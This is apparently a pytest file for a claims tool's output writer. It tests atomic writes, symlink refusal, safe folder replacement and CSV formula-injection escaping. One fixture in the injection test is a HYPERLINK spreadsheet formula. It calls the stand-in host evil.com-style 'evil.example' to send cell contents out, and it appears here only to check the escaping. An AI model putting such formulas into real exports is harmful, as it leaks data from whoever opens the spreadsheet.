"""Outputs written safely: atomic files, folders replaced whole, links refused, CSV formulas escaped,
a table in two forms refused."""

from __future__ import annotations

import os
import subprocess
import sys
import textwrap
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from features import outputs
from features.contract import load_history, write_history
from features.errors import RecoupError
from features.outputs import (
    MARKER,
    check_dir_output,
    escape_formulas,
    unescape_formulas,
    write_csv,
    write_dir,
    write_file,
    write_text,
)

ROOT = Path(__file__).resolve().parents[2]


def _listing(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


def _leftovers(folder: Path) -> list[str]:
    return [p.name for p in folder.iterdir() if ".tmp-" in p.name or ".old-" in p.name]


def _run_with_file_size_limit(code: str, limit: int) -> subprocess.CompletedProcess:
    """Run ``code`` in a fresh Python whose files cannot grow past ``limit`` bytes (the kernel refuses
    the write with EFBIG, as a full disk refuses it with ENOSPC)."""
    prelude = textwrap.dedent(f"""
        import resource, signal
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, ({limit}, {limit}))
    """)
    env = {**os.environ, "PYTHONPATH": str(ROOT), "PYTHONDONTWRITEBYTECODE": "1"}
    return subprocess.run(
        [sys.executable, "-c", prelude + textwrap.dedent(code)], capture_output=True, text=True, env=env, timeout=300
    )


# ------------------------------------------------------------------------------------------ files
def test_failed_write_keeps_the_old_file_and_leaves_no_temp(tmp_path):
    target = tmp_path / "scores.csv"
    target.write_text("old content\n")
    res = _run_with_file_size_limit(
        f"""
        import pandas as pd
        from features.errors import RecoupError
        from features.outputs import write_csv
        try:
            write_csv({str(target)!r}, pd.DataFrame({{"a": range(200_000)}}))
        except RecoupError as exc:
            print("ERROR", exc)
    """,
        limit=64 * 1024,
    )
    assert res.returncode == 0, res.stderr
    assert res.stdout.startswith("ERROR cannot write ") and str(target) in res.stdout
    assert "File too large" in res.stdout and len(res.stdout.strip().splitlines()) == 1
    assert target.read_text() == "old content\n"
    assert _leftovers(tmp_path) == [] and [p.name for p in tmp_path.iterdir()] == ["scores.csv"]


def test_unwritable_path_is_one_line(tmp_path):
    (tmp_path / "afile").write_text("x")
    with pytest.raises(RecoupError) as exc:
        write_text(tmp_path / "afile" / "out.csv", "data")
    msg = str(exc.value)
    assert msg == f"cannot write {tmp_path / 'afile' / 'out.csv'}: {tmp_path / 'afile'} is a file, not a folder"


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only folders")
def test_read_only_folder_is_one_line(tmp_path):
    ro = tmp_path / "ro"
    ro.mkdir()
    ro.chmod(0o555)
    try:
        with pytest.raises(RecoupError, match="cannot write .*out.csv: .*not writable"):
            write_text(ro / "out.csv", "data")
    finally:
        ro.chmod(0o755)


def test_writer_exception_removes_the_temp(tmp_path):
    target = tmp_path / "x.txt"
    target.write_text("old")

    def boom(p: Path) -> None:
        p.write_text("half")
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        write_file(target, boom)
    assert target.read_text() == "old" and _leftovers(tmp_path) == []


def test_symlink_at_a_file_output_is_refused(tmp_path):
    real = tmp_path / "real.csv"
    real.write_text("keep me")
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    with pytest.raises(RecoupError, match="is a symbolic link"):
        write_text(link, "new")
    assert real.read_text() == "keep me" and link.is_symlink()
    dangling = tmp_path / "dangling.csv"
    dangling.symlink_to(tmp_path / "nowhere.csv")
    with pytest.raises(RecoupError, match="is a symbolic link"):
        write_text(dangling, "new")
    assert not (tmp_path / "nowhere.csv").exists()


# ------------------------------------------------------------------------------------------ folders
def _files(**files: str):
    def build(d: Path) -> None:
        for name, text in files.items():
            write_text(d / name, text)

    return build


def test_folder_is_new_then_own_output_replaced_whole(tmp_path):
    out = tmp_path / "out"
    write_dir(out, "generate", _files(**{"a.csv": "1", "b.csv": "2"}))
    assert sorted(p.name for p in out.iterdir()) == sorted(["a.csv", "b.csv", MARKER])
    write_dir(out, "generate", _files(**{"a.csv": "3"}))  # its own earlier output: replaced
    assert _listing(out).keys() == {"a.csv", MARKER} and (out / "a.csv").read_text() == "3"
    assert _leftovers(tmp_path) == []


def test_used_folder_is_refused_unless_overwrite(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "claims.csv").write_text("theirs")
    (out / "coverage.parquet").write_text("theirs")
    before = _listing(out)
    with pytest.raises(RecoupError, match="is not empty and is not an earlier output of `recoup generate`"):
        write_dir(out, "generate", _files(**{"claims.csv": "new"}))
    assert _listing(out) == before
    write_dir(out, "generate", _files(**{"claims.csv": "new"}), overwrite=True)
    assert _listing(out).keys() == {"claims.csv", MARKER}  # no stale coverage.parquet


def test_other_commands_output_and_added_files_are_refused(tmp_path):
    out = tmp_path / "out"
    write_dir(out, "audit", _files(**{"worklist.csv": "w"}))
    with pytest.raises(RecoupError, match="not an earlier output of `recoup generate`"):
        check_dir_output(out, "generate", overwrite=False)
    (out / "notes.txt").write_text("mine")
    with pytest.raises(RecoupError, match="holds 'notes.txt', which `recoup audit` did not write"):
        write_dir(out, "audit", _files(**{"worklist.csv": "w2"}))
    assert (out / "notes.txt").read_text() == "mine" and (out / "worklist.csv").read_text() == "w"


def test_current_folder_and_its_parents_are_refused(tmp_path, monkeypatch):
    inner = tmp_path / "a" / "b"
    inner.mkdir(parents=True)
    monkeypatch.chdir(inner)
    for out in (Path("."), inner, tmp_path / "a"):
        with pytest.raises(RecoupError, match="is the current folder or holds it"):
            write_dir(out, "audit", _files(**{"report.html": "r"}), overwrite=True)
    assert inner.is_dir() and list(inner.iterdir()) == []


def test_empty_folder_is_accepted(tmp_path):
    out = tmp_path / "empty"
    out.mkdir()
    write_dir(out, "audit", _files(**{"report.html": "r"}))
    assert (out / "report.html").read_text() == "r"


@pytest.mark.parametrize("exchange", [True, False])
def test_failed_build_leaves_the_old_folder(tmp_path, monkeypatch, exchange):
    if not exchange:  # a file system without renameat2(RENAME_EXCHANGE): two renames
        monkeypatch.setattr(outputs, "_exchange", lambda a, b: False)
    out = tmp_path / "out"
    write_dir(out, "generate", _files(**{"claims.csv": "old", "oracle.csv": "old"}))
    before = _listing(out)

    def half(d: Path) -> None:
        write_text(d / "claims.csv", "new")
        raise OSError(28, "No space left on device")

    with pytest.raises(RecoupError, match=f"^cannot write {out}: No space left on device$"):
        write_dir(out, "generate", half)
    assert _listing(out) == before and _leftovers(tmp_path) == []
    write_dir(out, "generate", _files(**{"claims.csv": "new"}))
    assert _listing(out).keys() == {"claims.csv", MARKER} and _leftovers(tmp_path) == []


def test_full_disk_in_a_folder_names_the_final_file(tmp_path):
    out = tmp_path / "out"
    write_dir(out, "generate", _files(**{"claims.csv": "old"}))
    before = _listing(out)
    res = _run_with_file_size_limit(
        f"""
        import pandas as pd
        from features.errors import RecoupError
        from features.outputs import write_csv, write_dir
        try:
            write_dir({str(out)!r}, "generate",
                      lambda d: write_csv(d / "claims.csv", pd.DataFrame({{"a": range(200_000)}})))
        except RecoupError as exc:
            print("ERROR", exc)
    """,
        limit=64 * 1024,
    )
    assert res.returncode == 0, res.stderr
    assert res.stdout.strip() == f"ERROR cannot write {out / 'claims.csv'}: File too large"
    assert _listing(out) == before and _leftovers(tmp_path) == []


def test_symlink_and_file_at_a_folder_output_are_refused(tmp_path):
    real = tmp_path / "real"
    write_dir(real, "generate", _files(**{"claims.csv": "keep"}))
    link = tmp_path / "link"
    link.symlink_to(real, target_is_directory=True)
    with pytest.raises(RecoupError, match="is a symbolic link"):
        write_dir(link, "generate", _files(**{"claims.csv": "new"}), overwrite=True)
    assert (real / "claims.csv").read_text() == "keep" and link.is_symlink()
    (tmp_path / "afile").write_text("x")
    with pytest.raises(RecoupError, match="is a file, not a folder"):
        write_dir(tmp_path / "afile", "generate", _files(**{"claims.csv": "new"}), overwrite=True)


# ------------------------------------------------------------------------------------------ CSV injection
def test_formula_cells_are_escaped_numbers_are_not(tmp_path):
    df = pd.DataFrame(
        {
            "claim_id": [
                '=HYPERLINK("http://evil.example/?x="&A1,"open")',
                "+1",
                "-2",
                "@SUM(A1)",
                "\tx",
                "\rx",
                "'quoted",
                "C-1",
                None,
            ],
            "amount": [-5.0, 1.0, -0.5, 2.0, 3.0, np.nan, 4.0, 5.0, 6.0],
            "count": np.arange(9) - 4,
        }
    )
    esc = escape_formulas(df)
    assert esc["claim_id"].tolist()[:7] == ["'" + v for v in df["claim_id"][:7]]
    assert esc["claim_id"].iloc[7] == "C-1" and pd.isna(esc["claim_id"].iloc[8])
    pd.testing.assert_series_equal(esc["amount"], df["amount"])
    pd.testing.assert_series_equal(esc["count"], df["count"])
    write_csv(tmp_path / "w.csv", df, for_people=True)
    rows = (tmp_path / "w.csv").read_bytes().split(b"\r\n")
    assert rows[1].startswith(b"\"'=HYPERLINK(") and rows[1].endswith(b",-5.0,-4")  # numbers stay numbers
    assert rows[3] == b"'-2,-0.5,-2" and rows[6] == b'"\'\rx",,1'  # a lone CR is quoted
    back = pd.read_csv(
        tmp_path / "w.csv", dtype={"claim_id": str}, keep_default_na=False, na_values={"claim_id": [""], "amount": [""]}
    )
    back = unescape_formulas(back, ["claim_id"])
    assert back["claim_id"].tolist()[:8] == df["claim_id"].tolist()[:8]
    np.testing.assert_array_equal(back["amount"], df["amount"])


def test_formulas_after_leading_blanks_are_escaped():
    df = pd.DataFrame({"name": ["  =1+1", "\n@SUM(A1)", " +1", "a =b", "  plain", " - ok"]})
    esc = escape_formulas(df)["name"].tolist()
    assert esc == ["'  =1+1", "'\n@SUM(A1)", "' +1", "a =b", "  plain", "' - ok"]
    assert unescape_formulas(pd.DataFrame({"name": esc}))["name"].tolist() == df["name"].tolist()


def test_write_csv_for_people_escapes(tmp_path):
    df = pd.DataFrame({"claim_id": ["=1+1", "C1"], "paid": [-3.5, 2.0]})
    write_csv(tmp_path / "w.csv", df, for_people=True)
    write_csv(tmp_path / "d.csv", df)
    assert (tmp_path / "w.csv").read_bytes().split(b"\r\n")[1:] == [b"'=1+1,-3.5", b"C1,2.0", b""]
    assert (tmp_path / "d.csv").read_text().splitlines()[1] == "=1+1,-3.5"


# ------------------------------------------------------------------------------------------ histories
def test_a_table_in_two_forms_is_refused(tmp_path):
    from tests.helpers.data import small_history

    h, _ = small_history()
    d = write_history(h, tmp_path / "h")
    h.claims.to_parquet(d / "claims.parquet", index=False)
    with pytest.raises(RecoupError) as exc:
        load_history(d)
    msg = str(exc.value)
    assert "claims.parquet" in msg and "claims.csv" in msg and "\n" not in msg
    (d / "claims.parquet").unlink()
    h.claim_lines.head(0).to_csv(d / "claim_lines.csv.gz", index=False)
    with pytest.raises(RecoupError, match=r"both claim_lines\.csv and claim_lines\.csv\.gz"):
        load_history(d)


def test_write_history_leaves_no_stale_table(tmp_path):
    from tests.helpers.data import small_history

    h, _ = small_history()
    d = write_history(h, tmp_path / "h", fmt="parquet")
    assert (d / "coverage.parquet").exists()
    tables = {**h.tables(), "coverage": None}
    write_history(tables, d, fmt="csv")
    assert sorted(p.name for p in d.iterdir()) == sorted(
        f"{t}.csv" for t in ("claims", "claim_lines", "providers", "recoupments")
    )
    assert load_history(d).coverage is None
